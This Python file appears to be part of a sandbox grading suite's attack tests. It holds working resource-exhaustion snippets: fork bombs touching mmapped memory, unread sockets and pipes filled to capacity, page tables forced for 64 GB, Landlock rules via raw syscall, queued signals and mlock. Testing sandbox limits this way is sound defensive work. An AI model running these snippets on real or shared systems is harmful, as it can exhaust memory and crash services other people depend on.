"""Attacks that let the kernel hold memory for them, or use up what it counts for a user and not for a process."""

from grading.attacks.attack import proof

# Runs `hold` in many processes at a time, and adds up what those that still live in the end said that they hold.
IN_MANY = """
import struct
kept = []
near, far = os.pipe()
children = []
try:
    for _ in range(48):
        pid = os.fork()
        if not pid:
            held = 0
            try:
                for piece in hold():
                    held += piece
            except OSError:
                pass
            os.write(far, struct.pack("QQ", os.getpid(), held))
            signal.pause()
        children.append(pid)
except OSError:
    pass
held = dict(struct.unpack("QQ", os.read(near, 16)) for _ in children)
total = sum(held[pid] for pid in children if os.waitpid(pid, os.WNOHANG) == (0, 0))
for pid in children:
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
found = total > 1 << 30
"""

HOLDING = (
    proof(
        "touch_at_once",
        "memory",
        "reserve 5 GB in many processes, and touch it before anybody looks again",
        """
import mmap
gate, opened = os.pipe()
def hold():
    room = mmap.mmap(-1, 104 << 20)
    kept.append(room)
    os.read(gate, 1)
    for at in range(0, len(room), 4096):
        room[at] = 1
    yield len(room)
os.write(opened, bytes(48))
"""
        + IN_MANY,
    ),
    proof(
        "unread_letters",
        "kernel memory",
        "write into sockets that nobody reads, in many processes",
        """
def hold():
    while True:
        kept.append(socket.socketpair())
        for end in kept[-1]:
            end.setblocking(False)
            try:
                while True:
                    yield end.send(bytes(65536))
            except BlockingIOError:
                pass
"""
        + IN_MANY,
    ),
    proof(
        "full_pipes",
        "kernel memory",
        "fill pipes that nobody reads, in many processes",
        """
def hold():
    while True:
        end = os.pipe()[1]
        os.set_blocking(end, False)
        try:
            while True:
                yield os.write(end, bytes(4096))
        except BlockingIOError:
            pass
"""
        + IN_MANY.replace("1 << 30", "400 << 20"),
    ),
    proof(
        "page_tables",
        "kernel memory",
        "have page tables made for 64 GB, of which nearly nothing is touched",
        """
import mmap
pieces = [mmap.mmap(-1, 1 << 30) for _ in range(64)]
for piece in pieces:
    for at in range(0, len(piece), 2 << 20):
        piece[at] = 1
found = True
""",
    ),
    proof(
        "rules_by_the_million",
        "kernel memory",
        "make rules of Landlock, of which the kernel keeps 65,536 for each of thousands of files",
        "found = ctypes.CDLL(None).syscall(444, (ctypes.c_uint64 * 2)(1, 0), ctypes.c_size_t(8), 0) >= 0",
    ),
    proof(
        "pending_signals",
        "limits of a user",
        "leave thousands of signals pending",
        """
signal.pthread_sigmask(signal.SIG_BLOCK, [40])
libc = ctypes.CDLL(None)
found = all(libc.sigqueue(os.getpid(), 40, None) == 0 for _ in range(2000))
""",
    ),
    proof(
        "locked_memory",
        "limits of a user",
        "lock memory, so that it cannot be moved out",
        """
much = ctypes.create_string_buffer(4 << 20)
found = ctypes.CDLL(None).mlock(much, len(much)) == 0
""",
    ),
    proof(
        "message_queue",
        "limits of a user",
        "keep messages in a queue of the kernel",
        """
librt = ctypes.CDLL("librt.so.1")
found = librt.mq_open(b"/cs231n", os.O_CREAT | os.O_RDWR, 0o600, None) >= 0
""",
    ),
)
